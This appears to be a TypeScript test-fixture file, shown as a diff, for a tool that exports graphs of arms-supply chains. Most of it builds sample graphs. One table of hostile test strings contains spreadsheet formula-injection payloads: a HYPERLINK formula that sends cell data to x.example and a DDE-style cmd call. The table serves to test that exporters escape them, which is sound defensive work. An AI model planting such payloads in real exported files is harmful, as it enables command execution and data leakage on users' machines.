@@ -1,0 +1,184 @@
+import type { About, ExportedEdge, ExportedGraph, ExportedNode, ExportedSource } from '../../../src/export/graph.ts';
+
+const ABOUT: About = {
+  title: 'Chains to a cell',
+  question: '{"to":{"ids":["cell"]}}',
+  revision: 7,
+  contentHash: 'abc123',
+  program: 'armstrace 0.0.0',
+  attributions: [{ name: 'seeds', licence: 'Apache-2.0', attribution: 'the sources that each claim names' }],
+  complete: true,
+  leftOut: { nodes: 0, edges: 0 },
+};
+
+const NODE: ExportedNode = { id: 'n', label: 'n', kind: 'ARMED_GROUP', country: null, otherNames: [] };
+
+const EDGE: ExportedEdge = {
+  id: 'e',
+  kind: 'SUPPLIED',
+  source: 'a',
+  target: 'b',
+  earliest: null,
+  latest: null,
+  materiel: [],
+  credibility: 3,
+  reliability: 'C',
+  contested: false,
+  sources: [],
+  chains: [],
+  quantity: null,
+  unit: null,
+  qualifier: null,
+  diversionPoint: null,
+  diversionMechanism: null,
+};
+
+const SOURCE: ExportedSource = {
+  id: 's',
+  title: null,
+  publisher: null,
+  url: null,
+  published: null,
+  reliability: 'C',
+};
+
+export interface Drawn {
+  readonly about?: Partial<About>;
+  readonly sources?: readonly (Partial<ExportedSource> & Pick<ExportedSource, 'id'>)[];
+  readonly nodes?: readonly (Partial<ExportedNode> & Pick<ExportedNode, 'id'>)[];
+  readonly edges?: readonly (Partial<ExportedEdge> & Pick<ExportedEdge, 'id' | 'source' | 'target'>)[];
+}
+
+/** A graph as a test writes it down; what it does not say is plain. */
+export function exported({ about, sources = [], nodes = [], edges = [] }: Drawn): ExportedGraph {
+  return {
+    about: { ...ABOUT, ...about },
+    sources: sources.map((source) => ({ ...SOURCE, ...source })),
+    nodes: () => nodes.map((node) => ({ ...NODE, label: node.id, ...node })),
+    edges: async function* () {
+      for (const edge of edges) yield { ...EDGE, ...edge };
+    },
+  };
+}
+
+/** All that can go wrong in a text, by what it is. */
+export const NASTY: Readonly<Record<string, string>> = {
+  'quotes and brackets': `"it's" <b>&amp;</b> & ]]> <!-- --> <?php ?>`,
+  'control characters': 'a\u0000b\u0007c\u001bd\u007fe\u0085f\u2028g\ufffeh\uffff',
+  'line breaks': 'one\r\ntwo\nthree\rfour\tfive',
+  'right-to-left marks': '\u202eabc\u202c \u200fداعش\u200e \u2066x\u2069',
+  'lone surrogates': 'a\ud800b\udc00c',
+  'beyond the basic plane': '\u{1f52b} \u{10ffff}',
+  'a formula': '=HYPERLINK("http://x.example/?"&A1,"click")',
+  'more formulas': '+1+1',
+  'even more': "-2+3+cmd|' /C calc'!A0",
+  'and one more': '@SUM(1+1)*cmd',
+  separators: 'a,b;c\td|e#f%g',
+  nothing: '',
+};
+
+/** A graph in which every text is one of those. */
+export function nastyGraph(): ExportedGraph {
+  const texts = Object.values(NASTY);
+  return exported({
+    about: { title: texts.join(' '), question: JSON.stringify({ texts }), attributions: texts.map(attributed) },
+    sources: texts.map((text, at) => ({ id: `s${at}`, title: text, publisher: text, url: text })),
+    nodes: texts.map((text, at) => ({ id: `n${at}`, label: text, otherNames: [text] })),
+    edges: texts.map((text, at) => ({
+      id: `e${at}`,
+      source: `n${at}`,
+      target: `n${(at + 1) % texts.length}`,
+      materiel: [{ id: `m${at}`, name: text }],
+      sources: [`s${at}`],
+      unit: text,
+      qualifier: text,
+    })),
+  });
+}
+
+function attributed(text: string) {
+  return { name: text, licence: text, attribution: text };
+}
+
+/** Two parallel flows, a WITHIN hop, open bounds, several sources: what a format must not lose. */
+export function richGraph(): ExportedGraph {
+  return exported({
+    sources: [
+      {
+        id: 'report',
+        title: 'A report',
+        publisher: 'A field team',
+        url: 'https://example.org/report',
+        published: '2017-12-14',
+        reliability: 'B',
+      },
+      { id: 'press', title: 'An article', publisher: 'An agency', published: '2018-01-02', reliability: 'C' },
+    ],
+    nodes: [
+      { id: 'state', label: 'A state', kind: 'STATE', country: 'SY', otherNames: ['دولة'] },
+      { id: 'army', label: 'Its army', kind: 'STATE_FORCE', country: 'SY' },
+      { id: 'brigade', label: 'A brigade', kind: 'STATE_FORCE' },
+      { id: 'cell', label: 'A cell', kind: 'CELL' },
+    ],
+    edges: [
+      {
+        id: 'f1',
+        source: 'state',
+        target: 'army',
+        earliest: '2010-01-01',
+        latest: '2010-12-31',
+        credibility: 2,
+        reliability: 'B',
+        sources: ['report'],
+        chains: [1, 2],
+        materiel: [
+          { id: 'rifle', name: 'Rifles' },
+          { id: 'rocket', name: 'Rockets' },
+        ],
+        quantity: 271,
+        unit: 'pieces',
+        qualifier: 'at least',
+      },
+      {
+        id: 'f2',
+        source: 'state',
+        target: 'army',
+        latest: '2011-06-30',
+        credibility: 3,
+        reliability: 'C',
+        sources: ['press', 'report'],
+        chains: [2],
+      },
+      {
+        id: 'within:army:brigade',
+        kind: 'WITHIN',
+        source: 'army',
+        target: 'brigade',
+        credibility: 3,
+        reliability: 'F',
+        chains: [1, 2],
+      },
+      {
+        id: 'f3',
+        kind: 'DIVERTED',
+        source: 'brigade',
+        target: 'cell',
+        earliest: '2014-06-01',
+        contested: true,
+        credibility: 4,
+        reliability: 'D',
+        sources: ['press'],
+        chains: [1, 2],
+        diversionPoint: 'POST_DELIVERY',
+        diversionMechanism: 'BATTLEFIELD_CAPTURE',
+      },
+    ],
+  });
+}
+
+/** All that a writer writes, as one text. */
+export async function textOf(pieces: AsyncIterable<string>): Promise<string> {
+  let text = '';
+  for await (const piece of pieces) text += piece;
+  return text;
+}
